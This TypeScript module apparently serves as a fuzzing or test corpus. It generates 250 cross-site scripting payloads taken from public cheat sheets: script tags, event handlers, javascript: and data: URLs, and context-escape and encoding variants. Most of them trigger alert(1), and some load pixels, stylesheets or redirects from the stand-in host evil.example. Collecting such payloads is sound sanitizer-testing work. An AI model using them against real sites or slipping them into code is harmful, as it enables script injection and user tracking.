// Two hundred and fifty texts that would run a script where they were taken for more than text: every way of the public
// cheat sheets (OWASP, PortSwigger) to begin one, in several writings and behind several ways out of where it stands.

const run = 'alert(1)'

const elements = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:,${run} />`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe onload=${run}>`,
  `<object data=javascript:${run}>`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `<embed src=javascript:${run}>`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<video><source onerror=${run}>`,
  `<video src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>go</button>`,
  `<a href="javascript:${run}" id=x autofocus onfocus=${run}>go</a>`,
  `<div tabindex=1 autofocus onfocus=${run}>go</div>`,
  `<marquee onstart=${run}>go</marquee>`,
  `<math><mi xlink:href="javascript:${run}">go</mi></math>`,
  `<form action=javascript:${run}><button autofocus onfocus=${run}>go</button></form>`,
  `<isindex type=image src=x onerror=${run}>`,
  `<link rel=stylesheet href=javascript:${run}>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href=https://evil.example/>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<div style="background:url(javascript:${run})">go</div>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xss onanimationstart=${run} style="animation:x 1s">`,
  `<dialog open onclose=${run}>`,
  `<img src=https://evil.example/pixel>`,
  `<img srcset="https://evil.example/pixel 1x">`,
  `<table background=https://evil.example/pixel>`,
  `[go](javascript:${run})`,
  `![go](https://evil.example/pixel)`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
] as const

/** Out of a tag, an attribute, a text, a script, a comment. */
const waysOut = ['', '">', "'>", '</textarea>', '</script>', '</title>', '-->', ']]>', '</style>'] as const

/** Where it is taken for a template or a piece of script. */
const others = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `';${run}//`,
  `";${run}//`,
  `\\";${run}//`,
  `'-${run}-'`,
  `"-${run}-"`,
  `\`-${run}-\``,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
] as const

const wanted = 250
const many = waysOut.flatMap((out) => elements.map((element) => out + element))
/** Spread over all ways out. */
export const payloads: readonly string[] = [
  ...others,
  ...elements,
  ...many.filter((_, index) => index >= elements.length && index % 5 < 2),
].slice(0, wanted)
